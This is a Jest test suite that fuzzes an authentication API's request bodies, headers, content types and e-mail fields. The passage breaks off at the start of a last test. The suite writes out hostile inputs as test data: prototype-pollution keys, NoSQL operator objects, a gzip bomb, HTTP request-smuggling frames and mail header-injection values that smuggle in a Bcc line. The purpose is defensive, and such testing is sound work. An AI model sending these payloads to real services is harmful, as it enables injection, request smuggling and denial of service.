import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { resolvedField } from '../support/openapi-fields.js';
import { givenAdmin } from '../support/admins.js';
import { foldTypedCode } from '../../src/platform/text/typed-text.js';
import { givenApiKey } from '../support/api-keys.js';
import { eventually } from '../support/eventually.js';
import { given, unique, type GivenMember } from '../support/factories.js';
import type { HttpAnswer, RequestOptions } from '../support/http-client.js';
import { mailbox, outboxEmpty } from '../support/mailbox.js';
import { countPgSleeps } from '../support/pg-sleep-counter.js';
import { problemViolations } from '../support/problem-violations.js';
import { serverForManyRequests, TestApp } from '../support/test-app.js';
import { quarterOf } from '../support/test-length.js';

const SIGN_UP = '/api/auth/sign-up';
const SEND_RESET_CODE = '/api/auth/password-reset/send-code';
const SEND_FIND_CODE = '/api/auth/login-id/send-code';

/** One field of a request body, as /docs-json describes it. */
interface FieldSchema {
  type?: string;
  format?: string;
  nullable?: boolean;
  example?: unknown;
  enum?: unknown[];
  allOf?: unknown[];
}

/** An operation that takes a body, and all that is needed to get past its guard. */
interface Operation {
  method: string;
  path: string;
  token: string | undefined;
  statuses: string[];
  fields: Record<string, FieldSchema>;
  /** Well-formed values of the required fields. */
  body: Record<string, unknown>;
}

/** A body that every operation refuses, and the expected refusal. */
interface BadBody {
  name: string;
  /** Made per operation, because some need the name of a field. */
  request: (operation: Operation) => RequestOptions;
  answers: string[];
}

let app: TestApp;
/** A server on the same database that logs all it can. */
let talkative: TestApp;
let ada: GivenMember;
let operations: Operation[];

beforeAll(async () => {
  app = await TestApp.start({ env: { LOG_LEVEL: 'warn' }, program: serverForManyRequests() });
  talkative = await app.replica({ env: { LOG_LEVEL: 'debug' } });
  ada = await given.member(app);
  const { body: docs } = await app.get('/docs-json').expect(200);
  const admin = await givenAdmin(app);
  const tokens: Record<string, string> = {
    access: ada.accessToken,
    admin: admin.accessToken,
    refresh: ada.refreshToken,
    reset: await resetToken(),
    apiKeyBasic: (await givenApiKey(app, ['revocations:read'])).key,
  };
  operations = Object.entries<Record<string, any>>(docs.paths).flatMap(([path, methods]) =>
    Object.entries(methods)
      .filter(([method]) => ['post', 'patch', 'put'].includes(method))
      .map(([method, operation]): Operation => {
        const reference: string = operation.requestBody?.content['application/json'].schema.$ref ?? '';
        const schema = docs.components.schemas[reference.split('/').at(-1)!] ?? {};
        const fields: Record<string, FieldSchema> = Object.fromEntries(
          Object.entries<FieldSchema>(schema.properties ?? {}).map(([name, field]) => [
            name,
            resolvedField(docs, field),
          ]),
        );
        const required: string[] = schema.required ?? [];
        return {
          method: method.toUpperCase(),
          path: path.replace(/\{\w+\}/g, '4b0f3c1e-6f0d-4c55-9d0a-0f4f3a4f2c11'),
          token: Object.keys(operation.security?.[0] ?? {}).map(
            (scheme) => tokens[path.startsWith('/api/admin/') ? 'admin' : scheme],
          )[0],
          statuses: Object.keys(operation.responses),
          fields,
          body: Object.fromEntries(required.map((name) => [name, exampleOf(name, fields[name]!)])),
        };
      }),
  );
});
afterAll(() => app.stop());

async function resetToken(): Promise<string> {
  const [welcome] = await mailbox.to(ada.email).all();
  const { body } = await app.post(SEND_RESET_CODE, { email: ada.email }).expect(202);
  const { code } = await mailbox.to(ada.email).next({ after: welcome });
  const confirmation = { requestId: body.requestId, code };
  return (await app.post('/api/auth/password-reset/confirm-code', confirmation).expect(200)).body.resetToken;
}

function exampleOf(name: string, { type, example, enum: values }: FieldSchema): unknown {
  if (example !== undefined) return example;
  if (values) return values[0];
  if (type === 'boolean') return true;
  return name === 'token' ? 'p0w3nQ3p5yv7XQv2fJ4yO0dG1bR8mZkTt6uHcS9aLxE' : 'something';
}

/** Runs `work` on 16 items at a time: enough to be quick, few enough not to overload the server. */
async function each<T>(items: readonly T[], work: (item: T) => Promise<void>): Promise<void> {
  const rest = [...items];
  const worker = async (): Promise<void> => {
    for (let item = rest.shift(); item !== undefined; item = rest.shift()) await work(item);
  };
  await Promise.all(Array.from({ length: 16 }, worker));
}

const send = ({ method, path, token }: Operation, request: RequestOptions, server = app) =>
  server.request(method, path, { token, ...request });

/** Used instead of `expect`, which takes as long as a request: these tests check thousands of responses. */
function must(isTrue: boolean, ...found: unknown[]): void {
  if (!isTrue) throw new Error(JSON.stringify(found));
}

/** IV-07: every refusal has the same shape and reveals nothing about the server. */
function expectProblem(answer: HttpAnswer, what: string): void {
  const violations = problemViolations(answer);
  must(violations.length === 0, what, violations, answer.text.slice(0, 500));
}

/** Sends each bad body to each operation in `to`. In the short form each operation gets a quarter of the bodies. */
async function expectAllRefused(bodies: BadBody[], to = operations): Promise<void> {
  const before = await membersNow();
  const pairs = to.flatMap((operation, index) => quarterOf(bodies, index).map((body) => ({ operation, body })));
  await each(pairs, async ({ operation, body: { name, request, answers } }) => {
    const what = `${operation.method} ${operation.path}, ${name}`;
    const answer = await send(operation, request(operation));
    const got = `${answer.status} ${answer.body?.code ?? answer.text.slice(0, 80)}`;
    must(answers.includes(got), what, got, answers);
    expectProblem(answer, what);
    must(operation.statuses.includes(String(answer.status)), what, answer.status, 'is not documented');
  });
  expect(await membersNow()).toEqual(before);
  await expectUnharmed();
}

/** IV-03: all columns of all members. */
async function membersNow(): Promise<unknown[]> {
  return (await app.sql.query('SELECT m::text FROM members m ORDER BY id')).rows;
}

/** The talkative server has logged requests with these words, but not the secret, and no unexpected error. */
async function expectLoggedWithout(secret: string, words: string): Promise<void> {
  await eventually(words, async () => talkative.logs.find((line) => line.includes(words)));
  expect(talkative.logs.filter((line) => line.includes(secret) || /"level":"(error|fatal)"/.test(line))).toEqual([]);
}

let startedAs: number | undefined;
/**
 * The process is still the one that was started, and it logged no unexpected error.
 */
async function expectUnharmed(): Promise<void> {
  startedAs ??= app.pid;
  expect(app.pid).toBe(startedAs);
  await app.get('/health/ready').expect(200);
  expect(app.logs.filter((line) => /"level":"(error|fatal)"/.test(line))).toEqual([]);
}

const json = (raw: string | Buffer): RequestOptions => ({ raw, headers: { 'content-type': 'application/json' } });
const firstField = ({ fields }: Operation): string => Object.keys(fields)[0] ?? 'token';

/** Operations whose `code` is a recovery code or comes from an authenticator app. */
const TAKES_SECOND_FACTORS = /\/(login\/mfa|reauthenticate|me\/(totp|recovery-codes|passkeys\S*))$/;

describe('a malformed request body', () => {
  it('IV-01 the table of operations covers every operation with a body', () => {
    const paths = operations.map(({ method, path }) => `${method} ${path}`);
    expect(paths).toEqual(
      expect.arrayContaining([
        `POST ${SIGN_UP}`,
        'POST /api/auth/login',
        'POST /api/auth/refresh',
        'POST /api/auth/password-reset',
        'PATCH /api/members/me',
        'POST /api/members/me/password',
      ]),
    );
    expect(paths.length).toBeGreaterThanOrEqual(17);
  });

  it('IV-01 a body that is no object is refused', async () => {
    const values = ['null', '[]', '[{}]', '[null]', '"text"', '""', '0', '1e400', 'true', '[["email","a@b.test"]]'];
    await expectAllRefused(
      values.map((raw) => ({ name: raw, request: () => json(raw), answers: ['422 validation_failed'] })),
    );
  });

  it('IV-01 a missing required field is refused', async () => {
    const before = await membersNow();
    const demanding = operations.filter(({ body }) => Object.keys(body).length > 0);
    for (const operation of demanding) {
      for (const request of [{ body: {} }, {}, json('')]) {
        const answer = await send(operation, request);
        expect([operation.path, answer.status]).toEqual([operation.path, 422]);
        expectProblem(answer, operation.path);
        const missing = answer.body.errors.map(({ field, code }: { field: string; code: string }) => [field, code]);
        expect(missing.sort()).toEqual(
          Object.keys(operation.body)
            .map((field) => [field, 'required'])
            .sort(),
        );
      }
    }
    expect(await membersNow()).toEqual(before);
  });

  it('IV-03 an unknown field is refused', async () => {
    const names = [
      ...['role', 'isAdmin', 'emailVerified', 'id', 'memberId', 'createdAt', 'passwordHash', 'status', 'nested.field'],
      ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', '$where'],
      ...['', ' ', 'Email', 'email[]', 'password ', 'x'.repeat(5000), '<script>', 'нет', '\u0000', '\ud800', '\u202e'],
    ];
    await expectAllRefused(
      names.flatMap((name) =>
        ['admin', { isAdmin: true, role: 'admin' }].map((value) => ({
          name: `with ${JSON.stringify(name).slice(0, 40)}`,
          // The JSON is built by hand, because `__proto__` in an object literal sets the prototype. If an
          // operation has a field of this name, such as `role`, the test sends the name with a `_` added.
          request: ({ body, fields }) =>
            json(
              `${JSON.stringify(body).slice(0, -1)}${Object.keys(body).length > 0 ? ',' : ''}${pair(Object.hasOwn(fields, name) ? `${name}_` : name, value)}}`,
            ),
          answers: ['422 validation_failed'],
        })),
      ),
    );
    // The prototypes of the process are unchanged too.
    expect((await app.get('/api/members/me', ada.accessToken).expect(200)).body.role).toBe('member');
    expect((await app.post('/api/auth/login', {}).expect(422)).body.errors).toHaveLength(2);
  });

  it('ML-03 a duplicate field is refused', async () => {
    await expectAllRefused(
      [
        ['a', 'b'],
        ['a', null],
        [['a'], 'a'],
        ['ada@example.test', 'eve@example.test'],
      ].map((values) => ({
        name: `twice ${JSON.stringify(values)}`,
        request: (operation) => json(`{${values.map((value) => pair(firstField(operation), value)).join(',')}}`),
        answers: ['400 malformed_json'],
      })),
    );
  });

  it('invalid JSON is refused', async () => {
    const bodies = [
      ...['{', '}', '{"a":}', "{'a':1}", '{a:1}', '{"a":1,}', '[1,]', 'NaN', 'undefined', 'Infinity', '{"a":01}'],
      ...['{"a":1}{"b":2}', '// a\n{}', '/**/{}', '{"a":"\u0001"}', '{"a":"\n"}', '{"a":"\\x41"}', '{"a":"\\u12"}'],
      ...['\u0000', '{}\u0000', '\u00a0{}', ' ', '\n', 'token=abc', '<xml/>', '{"a":.5}', '{"a":+1}', '"', 'nul'],
    ];
    await expectAllRefused(
      bodies.map((raw) => ({
        name: JSON.stringify(raw),
        request: () => json(raw),
        answers: ['400 malformed_json'],
      })),
    );
  });

  it('IV-02 a body that is not UTF-8, or begins with a byte order mark, is refused', async () => {
    const inField = (bytes: number[]) => (operation: Operation) =>
      json(Buffer.concat([Buffer.from(`{"${firstField(operation)}":"a`), Buffer.from(bytes), Buffer.from('"}')]));
    const whole = (bytes: (text: string) => Buffer) => (operation: Operation) =>
      json(bytes(JSON.stringify(operation.body)));
    const bodies: [string, BadBody['request']][] = [
      ['a stray byte', inField([0xff])],
      ['a cut-off sequence', inField([0xe2, 0x82])],
      ['a lone continuation', inField([0x80])],
      ['an overlong slash', inField([0xc0, 0xaf])],
      ['an overlong NUL', inField([0xc0, 0x80])],
      ['a longer overlong slash', inField([0xe0, 0x80, 0xaf])],
      ['an encoded surrogate', inField([0xed, 0xa0, 0x80])],
      ['beyond Unicode', inField([0xf4, 0x90, 0x80, 0x80])],
      ['UTF-16, little end first', whole((text) => Buffer.from(text, 'utf16le'))],
      ['UTF-16 with its mark', whole((text) => Buffer.from(`\ufeff${text}`, 'utf16le'))],
      ['UTF-16, big end first', whole((text) => Buffer.from(text, 'utf16le').swap16())],
      ['a byte order mark', whole((text) => Buffer.from(`\ufeff${text}`))],
    ];
    await expectAllRefused(bodies.map(([name, request]) => ({ name, request, answers: ['400 malformed_json'] })));
  });

  it('IV-01 deep nesting and thousands of fields are refused', async () => {
    const deepArray = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
    const deepObject = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    const keys = (count: number) => `{${Array.from({ length: count }, (_, n) => `"${n.toString(36)}":0`).join()}}`;
    const refused = ['422 validation_failed', '400 malformed_json'];
    const bodies: [string, BadBody['request'], string[]][] = [
      ['100 arrays', () => json(deepArray(100)), ['422 validation_failed']],
      ['30,000 arrays', () => json(deepArray(30_000)), refused],
      ['30,000 open brackets', () => json('['.repeat(30_000)), ['400 malformed_json']],
      ['100 objects', () => json(deepObject(100)), ['422 validation_failed']],
      ['10,000 objects', () => json(deepObject(10_000)), refused],
      ['100 arrays in a field', (o) => json(`{"${firstField(o)}":${deepArray(100)}}`), ['422 validation_failed']],
      ['30,000 arrays in a field', (o) => json(`{"${firstField(o)}":${deepArray(30_000)}}`), refused],
      ['7,000 fields', () => json(keys(7000)), ['422 validation_failed']],
      ['10,000 fields', () => json(keys(10_000)), ['413 payload_too_large']],
      ['10,000 numbers', (o) => json(`{"${firstField(o)}":[${'1,'.repeat(9999)}1]}`), ['422 validation_failed']],
    ];
    await expectAllRefused(bodies.map(([name, request, answers]) => ({ name, request, answers })));
  });

  it('IV-01, IV-02 a field of the wrong type is refused by name', async () => {
    const before = await membersNow();
    let fieldCount = 0;
    const cases = operations.flatMap((operation) =>
      Object.entries(operation.fields).flatMap(([name, schema]) =>
        quarterOf(wrongValues(name, schema), fieldCount++).map((value) => ({ operation, name, value })),
      ),
    );
    expect(cases.length).toBeGreaterThan(1000);
    await each(cases, async ({ operation, name, value }) => {
      // A second factor may also be a recovery code, so more than six digits pass the validation of the
      // body. The operation refuses them later, with another error.
      if (
        TAKES_SECOND_FACTORS.test(operation.path) &&
        name === 'code' &&
        typeof value === 'string' &&
        isSecondFactor(value)
      )
        return;
      // Which attributes an invited person may send depends on the invitation, so the server checks the token first.
      const isObject = typeof value === 'object' && value !== null && !Array.isArray(value);
      if (operation.path.endsWith('/invitations/accept') && name === 'attributes' && isObject) return;
      // The code that a provider of social logins has issued is any text.
      if (/identities|social/.test(operation.path) && name === 'code' && typeof value === 'string') return;
      const what = `${operation.path} ${name}: ${JSON.stringify(value).slice(0, 60)}`;
      const answer = await send(operation, { body: { ...operation.body, [name]: value } });
      must(answer.status === 422 && answer.body.code === 'validation_failed', what, answer.status, answer.text);
      expectProblem(answer, what);
      // A name inside the value may be the fault: `attributes.plan`.
      const named: string[] = answer.body.errors.map(({ field }: { field: string }) => field.split('.')[0]);
      must(named.length === 1 && named[0] === name, what, named);
    });
    expect(await membersNow()).toEqual(before);
    await expectUnharmed();
  });

  it('the documented examples pass the same checks', async () => {
    const { accessToken, refreshToken } = await given.member(app);
    for (const operation of operations) {
      const token = { [ada.accessToken]: accessToken, [ada.refreshToken]: refreshToken }[operation.token ?? ''];
      for (const name of [undefined, ...Object.keys(operation.fields)]) {
        const more = name === undefined ? {} : { [name]: exampleOf(name, operation.fields[name]!) };
        const { status, body } = await send(operation, { token, body: { ...operation.body, ...more } });
        const complaints = (body?.errors ?? []).map(({ field, code }: { field: string; code: string }) => [
          field,
          code,
        ]);
        const what = `${operation.path} with ${name}: ${status} ${body?.code} ${JSON.stringify(complaints)}`;
        // The example codes and tokens are well-formed but do not exist, so other refusals are expected.
        if (status === 422) expect(what).toMatch(/password_too_common|one_of_needed|login_id_reserved/);
        else expect(what).not.toMatch(/: (400 (malformed|query)|413|415|5)/);
      }
    }
    await expectUnharmed();
  });
});

/** Fields whose text is folded before it is validated; see `foldTypedText`. */
const FOLDED: ReadonlySet<string> = new Set(['email', 'newEmail', 'identifier', 'loginId', 'code']);

/** Values that no field accepts. */
function wrongValues(name: string, { type, format, nullable, enum: values, allOf }: FieldSchema): unknown[] {
  const isPassword = format === 'password';
  const example = isPassword ? 'correct horse battery staple' : 'ada.lovelace@example.test';
  const between = (text: string): string => `${example.slice(0, 5)}${text}${example.slice(5)}`;
  const notText: unknown[] = [
    ...[0, 1, -1, 1.5, 123456, Number.MAX_SAFE_INTEGER, [], ['a'], [example], [null], {}],
    ...[{ $gt: '' }, { $ne: null }, { toString: 'a' }, { length: 6 }, { value: example }, { constructor: {} }],
  ];
  if (type === 'boolean') return [null, 'true', 'false', '', ...notText];
  const text = [
    ...['\u0000', '\u0001', '\u001b[31m', '\u007f', '\u0085', '\r\n', '\n', '\t'].map(between),
    ...['\ud800', '\udfff', '\udc00\ud800'].map(between),
  ];
  // People do use emoji in passwords, and those are joined with invisible characters.
  const invisible = ['\u200b', '\u200e', '\u202e', '\u2066', '\ufeff', '\u2028', '\u00ad', '\u{e0041}'].map(between);
  const wrong: unknown[] = [true, false, '', ...notText, ...text, 'a'.repeat(50_000), '가'.repeat(15_000)];
  // Where few characters are allowed, invisible ones are removed (IV-10).
  if (FOLDED.has(name)) wrong.push(between('\u2028'));
  else if (!isPassword) wrong.push(...invisible);
  if (values || allOf) wrong.push('none of these', 'EN', ' body');
  if (!nullable) wrong.push(null);
  // An empty object is valid. This server declares no attributes, so every other value is wrong.
  if (name === 'attributes') return wrong.filter((value) => JSON.stringify(value) !== '{}');
  // An empty list of consents is valid for the same reason.
  if (name === 'consents') return wrong.filter((value) => JSON.stringify(value) !== '[]');
  if (name === 'code')
    wrong.push('12345', '1234567', '+12345', '1e5', '１２３４５', '٠١٢٣٤٥', '0x1234', '12 34\n5', ' ');
  return wrong;
}

/** Values with the form of a second factor; a recovery code may hold letters. */
function isSecondFactor(value: string): boolean {
  const folded = foldTypedCode(value);
  return !/[\p{Cc}\p{Cs}]/u.test(folded) && folded.length >= 6 && folded.length <= 32;
}

const pair = (name: string, value: unknown): string => `${JSON.stringify(name)}:${JSON.stringify(value)}`;

describe('a malformed request', () => {
  it('TR-04 a content type other than JSON is refused', async () => {
    const types = [
      ...['text/plain', 'multipart/form-data; boundary=x', 'text/json'],
      ...['text/plain; application/json', 'application/xml', 'application/octet-stream', 'application/jsonp'],
      ...['application/vnd.api+json', 'text/html', '*/*', 'json', 'application/ json', ''],
    ];
    await expectAllRefused([
      ...types.map((type): BadBody => {
        return {
          name: type,
          request: ({ body }) => ({ raw: JSON.stringify(body), headers: { 'content-type': type } }),
          answers: ['415 unsupported_media_type'],
        };
      }),
      {
        name: 'no content type',
        request: ({ body }) => ({ raw: JSON.stringify(body), headers: { 'content-type': undefined } }),
        answers: ['415 unsupported_media_type'],
      },
    ]);
  });

  it('TR-04 a form is refused, except by introspection, which reads no cookie', async () => {
    const form = (raw: string) => () => ({ raw, headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    const answers = ['415 unsupported_media_type'];
    await expectAllRefused(
      [
        { name: 'a form', request: form('email=ada%40example.test&email=eve%40example.test'), answers },
        { name: 'JSON as a form', request: ({ body }) => form(JSON.stringify(body))(), answers },
      ],
      operations.filter(({ path }) => path !== '/api/auth/introspect'),
    );
  });

  it('IV-04 a compressed body is refused unread', async () => {
    const bomb = gzipSync(Buffer.alloc(20_000_000, ' '));
    expect(bomb.length).toBeLessThan(64 * 1024);
    await expectAllRefused(
      ['gzip', 'deflate', 'br', 'zstd', 'GZIP', 'x-gzip', 'identity, gzip'].map((encoding) => ({
        name: encoding,
        request: () => ({ raw: bomb, headers: { 'content-encoding': encoding } }),
        answers: ['415 unsupported_media_type'],
      })),
    );
  });

  it('IV-04 an oversized body is refused unread, with or without a declared length', async () => {
    const large = `{"a":"${'a'.repeat(64 * 1024)}"}`;
    await expectAllRefused([
      { name: '64 KB', request: () => json(large), answers: ['413 payload_too_large'] },
      {
        name: '64 KB in chunks',
        request: () => ({ raw: large, headers: { 'content-length': undefined, 'transfer-encoding': 'chunked' } }),
        answers: ['413 payload_too_large'],
      },
    ]);
    const answer = await app.request('POST', SIGN_UP, json(Buffer.alloc(10_000_000, ' ')));
    expect([answer.status, answer.body.code]).toEqual([413, 'payload_too_large']);
    // Just below the limit the body is read and validated.
    const { status } = await app.request('POST', SIGN_UP, json(`{"a":"${'a'.repeat(64 * 1024 - 8)}"}`));
    expect(status).toBe(422);
  });

  it('PW-07 a query string is refused and not logged', async () => {
    const secret = unique.password().replaceAll(' ', '-');
    const before = await membersNow();
    for (const operation of operations) {
      for (const query of [`?token=${secret}`, `?password=${secret}`, '?', `?a[]=${secret}`, `?%70assword=${secret}`]) {
        const path = operation.path + query;
        const answer = await send({ ...operation, path }, { body: operation.body }, talkative);
        expect([path, answer.status, answer.body.code]).toEqual([path, 400, 'query_not_allowed']);
        expectProblem(answer, path);
        expect(answer.text).not.toContain(secret);
      }
    }
    expect(await membersNow()).toEqual(before);
    await expectLoggedWithout(secret, SIGN_UP);
    await expectUnharmed();
  });

  it('SL-01 an unknown field is named in the refusal, and text that is no name is not repeated', async () => {
    const phrase = unique.password();
    const { body, text } = await app.post(SIGN_UP, { ...unique.signUp(), nickname: 'x', [phrase]: 'x' }).expect(422);
    expect(body.errors.map(({ field }: { field: string }) => field)).toEqual(['nickname', '?']);
    expect(text).not.toContain(phrase.split(' ')[0]);
  });

  it('PW-07 a secret in the path is answered with 404', async () => {
    for (const path of ['/api/auth/verify', '/api/auth/sign-up/confirm-link', '/api/auth/password-reset']) {
      expect((await talkative.post(`${path}/${ada.accessToken}`, {})).status).toBe(404);
    }
    await expectLoggedWithout(ada.accessToken, '"status":404');
  });

  it('IV-04 an oversized request head is refused', async () => {
    const many = Object.fromEntries(Array.from({ length: 1500 }, (_, n) => [`x-${n}`, 'a'.repeat(10)]));
    for (const headers of [{ 'x-large': 'a'.repeat(17_000) }, { cookie: `a=${'a'.repeat(17_000)}` }, many]) {
      const answer = await app.request('POST', SIGN_UP, { body: {}, headers });
      expect([answer.status, answer.body.code]).toEqual([431, 'headers_too_large']);
      expectProblem(answer, 'a large head');
    }
    expect((await app.get(`/api/${'a'.repeat(17_000)}`)).status).toBe(431);
    expect((await app.get(`/api/auth/sessions/${'a'.repeat(10_000)}`, ada.accessToken)).status).toBe(404);
    await expectUnharmed();
  });

  it('TR-07 bytes that are hardly HTTP are refused and the connection is closed', async () => {
    const post = (lines: string, body = '') => `POST ${SIGN_UP} HTTP/1.1\r\nHost: localhost\r\n${lines}\r\n\r\n${body}`;
    const type = 'Content-Type: application/json';
    const frames: (string | Buffer)[] = [
      'GARBAGE\r\n\r\n',
      '\u0000\u0001\u0002\u0003\r\n\r\n',
      Buffer.from('16030100c8010000c403035f', 'hex'), // TLS, to a port without TLS
      'GET\r\n\r\n',
      'GET / HTTP/9.9\r\nHost: localhost\r\n\r\n',
      'GET / FTP/1.1\r\nHost: localhost\r\n\r\n',
      'get / HTTP/1.1\r\nHost: localhost\r\n\r\n',
      'GET / HTTP/1.1\r\nHost : localhost\r\n\r\n',
      'GET / HTTP/1.1\r\n Host: localhost\r\n\r\n',
      'GET / HTTP/1.1\r\nHost: local\u0000host\r\n\r\n',
      'GET / HTTP/1.1\r\nHost: a\r\nHo st: b\r\n\r\n',
      'GET / HTTP/1.1\rHost: localhost\r\r',
      `${'A'.repeat(5000)} / HTTP/1.1\r\n\r\n`,
      post(`${type}\r\nContent-Length: 2\r\nTransfer-Encoding: chunked`, '{}'),
      post(`${type}\r\nTransfer-Encoding: chunked\r\nContent-Length: 2`, '2\r\n{}\r\n0\r\n\r\n'),
      post(`${type}\r\nContent-Length: 2\r\nContent-Length: 3`, '{} '),
      post(`${type}\r\nContent-Length: -1`, '{}'),
      post(`${type}\r\nContent-Length: +2`, '{}'),
      post(`${type}\r\nContent-Length: 2, 3`, '{}'),
      post(`${type}\r\nContent-Length: 0x2`, '{}'),
      post(`${type}\r\nContent-Length: 99999999999999999999`, '{}'),
      post(`${type}\r\nTransfer-Encoding: chunked`, 'zz\r\n{}\r\n0\r\n\r\n'),
      post(`${type}\r\nTransfer-Encoding: chunked`, '-2\r\n{}\r\n0\r\n\r\n'),
      post(`${type}\r\nTransfer-Encoding: chunked`, 'fffffffffffffffff\r\n{}\r\n'),
      post(`${type}\r\nTransfer-Encoding: xchunked`, '2\r\n{}\r\n0\r\n\r\n'),
      post(`${type}\r\nX-Bare: a\rb`, ''),
      post(`${type}\r\nX-Bare: a\nContent-Length: 2`, '{}x'),
    ];
    for (const frame of frames) {
      const answer = await app.raw(frame);
      expect([String(frame).slice(0, 90), answer.split('\r\n')[0]]).toEqual([
        String(frame).slice(0, 90),
        expect.stringMatching(/^HTTP\/1\.1 4\d\d /),
      ]);
      expect(answer).toMatch(/^connection: close/im);
      // The refusal reveals nothing about the server.
      expect(answer).not.toMatch(/node|fastify|HPE_|Parse Error/i);
    }
    const control = post(`${type}\r\nContent-Length: 2`, '{}');
    expect(await app.raw(control)).toMatch(/^HTTP\/1\.1 422 /);
    await expectUnharmed();
  });
});

describe('an e-mail address of unusual form', () => {
  const operationsThatMail = [
    [SIGN_UP, (email: unknown) => ({ ...unique.signUp(), email })],
    [SEND_RESET_CODE, (email: unknown) => ({ email })],
    [SEND_FIND_CODE, (email: unknown) => ({ email })],
  ] as const;

  /** The number of outbox rows; even a withheld mail adds one. */
  const outbox = async (): Promise<number> =>
    (await app.sql.query('SELECT count(*)::int AS rows FROM outbox_messages')).rows[0].rows;

  async function expectNoMail(addresses: unknown[]): Promise<void> {
    await outboxEmpty(app);
    const before = await outbox();
    const cases = operationsThatMail.flatMap(([path, body]) => addresses.map((email) => ({ path, email, body })));
    await each(cases, async ({ path, email, body }) => {
      const what = `${path} ${JSON.stringify(email).slice(0, 80)}`;
      const answer = await app.post(path, body(email));
      expect([what, answer.status, answer.body.code]).toEqual([what, 422, 'validation_failed']);
      expect([what, answer.body.errors.map(({ field }: { field: string }) => field)]).toEqual([what, ['email']]);
      expectProblem(answer, what);
    });
    expect(await outbox()).toBe(before);
  }

  it('ML-03 several addresses in one field are refused', async () => {
    const [a, b] = [ada.email, unique.email()];
    await expectNoMail([
      ...[[a], [a, b], { 0: a, 1: b }, { email: a }, { address: a }, [[a]]],
      ...[`${a},${b}`, `${a}, ${b}`, `${a};${b}`, `${a} ${b}`, `${a}\t${b}`, `${a}\n${b}`, `${a}|${b}`, `${a}%2C${b}`],
      ...[`${a}\u0000${b}`, `${a}%00${b}`, `${a}&email=${b}`, `${a}%0a%0dcc:${b}`, `${a}\r\nBcc: ${b}`, `${a} <${b}>`],
      ...[`<${a}>`, `Ada <${a}>`, `"${a}" <${b}>`, `friends: ${a}, ${b};`, `friends:${a};`, `:${a};`, `<@x.test:${a}>`],
      ...[`mailto:${a}`, `${a}?cc=${b}`, `${a}@${b}`, `${a}(${b})`, `"${a},${b}"@example.test`],
    ]);
  });

  it('ML-04 forms that only the mail grammar allows are refused', async () => {
    const label = 'a'.repeat(63);
    await expectNoMail([
      ...['', ' ', 'ada', '@', '@example.test', 'ada@', 'ada@@example.test', 'a@b@example.test', 'ada@example'],
      ...[
        '"ada"@example.test',
        '"a b"@example.test',
        '"a@b"@example.test',
        '"<script>"@example.test',
        'a"b@example.test',
      ],
      ...['ada(comment)@example.test', '(comment)ada@example.test', 'ada@(comment)example.test', 'ada@example.test(x)'],
      ...['ada@[127.0.0.1]', 'ada@[IPv6:::1]', 'ada@127.0.0.1', 'ada@2130706433', 'ada@0x7f.1', 'ada@localhost'],
      ...['.ada@example.test', 'ada.@example.test', 'a..da@example.test', 'ada@.example.test', 'ada@example..test'],
      ...['ada@example.test.', 'ada@-example.test', 'ada@example-.test', 'ada@exam_ple.test', 'ada@example.test/x'],
      ...[
        'ada@exa mple.test',
        'a da@example.test',
        'ada@example.test\u0000',
        '\u0000ada@example.test',
        'ada@ex\u0000.test',
      ],
      ...['ada\r\n@example.test', 'ada@exam\r\nple.test', 'ada\u0085@example.test', 'ada@example.test\u0007.test'],
      ...[
        'ada@example.test#x',
        'ada@example.test?x',
        'ada:x@example.test',
        'ada@example.test:25',
        'ada@ex%61mple.test',
      ],
      ...[
        'ada\\@example.test',
        'ada@example.test\\',
        '=?utf-8?q?ada?=@example.test'.replace('=?', '(=?'),
        'ada,@example.test',
      ],
      `${'a'.repeat(65)}@example.test`,
      `ada@${'a'.repeat(64)}.test`,
      `${'a'.repeat(59)}@${label}.${label}.${label}.com`, // 255 octets
      `${'a'.repeat(400)}@example.test`,
      `ada@${'가'.repeat(60)}.test`, // too long only in its xn--… form
    ]);
  });

  it('ML-04 a deeply nested address is refused', async () => {
    await expectNoMail([
      `${'('.repeat(10_000)}ada@example.test`,
      `${'g:'.repeat(10_000)}${ada.email}${';'.repeat(10_000)}`,
      `${'a.'.repeat(20_000)}@example.test`,
      `ada@${'a.'.repeat(20_000)}test`,
      `ada@${'a-'.repeat(20_000)}.test`,
      `${'<'.repeat(20_000)}${ada.email}`,
      `${' '.repeat(50_000)}ada@example.test x`,
      '@'.repeat(50_000),
    ]);
  });

  it('ML-04 an address up to 64 octets before the @ and 254 in all is accepted', async () => {
    const label = 'a'.repeat(63);
    const tag = unique.loginId();
    const longest = `${tag.padEnd(58, 'x')}@${label}.${label}.${label}.com`;
    expect(longest).toHaveLength(254);
    await app.post(SIGN_UP, { ...unique.signUp(), email: longest }).expect(202);
    // Mail servers differ on the last octet, so what counts here is that we stored it whole.
    const { rowCount } = await app.sql.query('SELECT FROM sign_ups WHERE email = $1', [longest]);
    expect(rowCount).toBe(1);
    for (const email of [`${tag.padEnd(64, 'x')}@example.test`, `${tag}!#$%&'*+/=?^_\`{|}~-@example.test`]) {
      await app.post(SIGN_UP, { ...unique.signUp(), email }).expect(202);
      expect((await mailbox.to(email).next()).to).toEqual([email]);
    }
  });

  it('ML-04 an international domain is accepted and mailed to in its ASCII form', async () => {
    const local = unique.loginId();
    for (const domain of ['B\u00fccher.example', '\ubb38\uc9c0\uae30.example']) {
      await app.post(SIGN_UP, { ...unique.signUp(), email: `${local}@${domain}` }).expect(202);
    }
    await outboxEmpty(app);
    // Some inboxes show the domain in Unicode again, so this looks at what came over the network.
    const headers = (await mailbox.everything()).flatMap(({ raw }) => /^To: .*$/m.exec(raw)?.[0] ?? []);
    expect(headers.filter((header) => header.includes(local)).sort()).toEqual([
      `To: ${local}@xn--bcher-kva.example`,
      `To: ${local}@xn--ok0b30w4kl.example`,
    ]);
  });

  it('IV-06 an address with lookalike characters is refused', async () => {
    const local = unique.loginId();
    await expectNoMail([
      `\u212a${local}@example.test`, // the Kelvin sign, which folds to k
      `\u0131${local}@example.test`, // i without its dot
      `\u0130${local}@example.test`, // I with a dot
      `\u017f${local}@example.test`, // the long s, which folds to s
      `\u0430${local}@example.test`, // a Cyrillic a
      `\u00e9${local}@example.test`, // é as one character
      `e\u0301${local}@example.test`, // é as two
    ]);
  });

  it('IV-06 every accepted spelling is the same address', async () => {
